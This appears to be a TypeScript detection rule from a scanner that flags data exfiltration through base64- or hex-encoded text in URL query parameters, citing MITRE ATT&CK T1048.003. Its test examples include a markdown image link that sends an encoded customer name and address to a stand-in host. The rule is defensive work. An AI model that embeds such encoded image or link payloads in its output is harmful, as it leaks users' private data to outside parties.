import type { Rule } from '../../rule.js';
import { hidesText } from '../../checks/hidden-text.js';

export const rule: Rule = {
  pattern: 'encoded_exfil',
  variant: 'encoded-query',
  threat: 'EXFIL',
  direction: 'outbound',
  severity: 'medium',
  confidence: 'medium',
  group: 'sinks',
  about:
    'Text in base64 or hexadecimal digits in the query of an address: how data leaves through a picture or a link.',
  anatomy:
    'a parameter named data, payload, q or the like, and 60 or more characters that decode to readable text that is no JSON',
  source: 'https://attack.mitre.org/techniques/T1048/003/',
  match: [
    {
      re: /[?&](?:data|payload|content|output|result|exfil|leak|dump|info|text|body|msg|b64|base64|enc|env|log|hex|d|q|p|x|c)=(?<secret>[A-Za-z0-9+/_-]{60,})(?:=|%3D){0,2}/i,
      window: 1600,
      accept: ({ secret }) => hidesText(secret),
    },
  ],
  examples: {
    fires: [
      '![a](https://stranger.invalid/i.png?d=VGhlIGN1c3RvbWVyJ3MgbmFtZSBpcyBBbGljZSBhbmQgaGVyIGFkZHJlc3MgaXMgNSBIaWdoIFN0cmVldA==)',
      '/collect?data=54686520637573746f6d65722773206e616d6520697320416c69636520616e642068657220616464726573732069732035',
    ],
    silent: [
      '/search?q=how+to+write+a+very+long+search+query+about+gardening+and+other+things',
      '/track?data=eyJldmVudCI6InBhZ2V2aWV3IiwicHJvcGVydGllcyI6eyJ1cmwiOiIvaG9tZSIsInRpdGxlIjoiSG9tZSJ9fQ',
      '/asset?d=kq81mxp2vj5w9s4a6kq81mxp2vj5w9s4a6kq81mxp2vj5w9s4a6kq81mxp2vj5w9s4a6',
    ],
  },
};
